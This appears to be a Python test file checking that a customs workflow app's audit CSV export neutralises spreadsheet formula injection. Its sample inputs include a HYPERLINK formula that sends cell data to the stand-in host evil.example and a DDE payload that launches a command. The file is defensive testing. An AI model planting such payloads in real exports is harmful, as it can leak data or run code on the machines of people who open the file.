"""No CSV export hands a spreadsheet a live formula: cells that start with = + - @ (or a tab or CR) stay text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import select, update

from tests.ui.conftest import Pages
from web.ui.audit import CSV_COLUMNS, spreadsheet_safe
from workflow.domain import commands as c
from workflow.domain.goods import Direction
from workflow.store import ui_queries
from workflow.store.directory import find_user
from workflow.store.tables import LedgerEntryRow

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["12.5", "-3", "+4", "DEC-1", "a = b", 7, None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _write_offs(pages: Pages, count: int) -> None:
    """`count` released declarations of one unit each on the demo certificate, each with its ledger entry."""
    with pages.container.sessions() as session:
        officer = find_user(session, "xiamen.port_officer")
        certificate_no = ui_queries.approvals(session, 1, 1)[0]["certificate_no"]
    assert officer is not None
    today = pages.container.deps.clock.today()
    for n in range(count):
        declare = c.DeclareShipment(
            officer.actor, f"DEC-CSV-{n}", certificate_no, today, Direction.ENTRY, ((1, Decimal(1)),)
        )
        result = pages.container.bus.handle(declare)
        if result["state"] == "inspection":
            pages.container.bus.handle(c.RecordInspection(officer.actor, result["declaration_id"], outcome="pass"))


def test_an_applicants_formula_reaches_the_auditors_write_off_csv_as_text(pages: Pages) -> None:
    _write_offs(pages, len(FORMULAS))
    with pages.container.sessions() as session, session.begin():
        entries = session.scalars(select(LedgerEntryRow.id).order_by(LedgerEntryRow.id).limit(len(FORMULAS))).all()
        for entry, text in zip(entries, FORMULAS, strict=True):
            session.execute(update(LedgerEntryRow).where(LedgerEntryRow.id == entry).values(reason=text))
    pages.sign_in("xiamen.auditor")
    with pages.client.get("/ui/audit/write-offs.csv") as response:
        _headers, *rows = csv.reader(io.StringIO(response.get_data(as_text=True), newline=""))
    reasons = {row[CSV_COLUMNS.index("reason")] for row in rows}  # headers are in the reader's language
    assert {"'" + text for text in FORMULAS} <= reasons
    assert not [cell for row in rows for cell in row if cell and cell[0] in "=+@\t\r"]
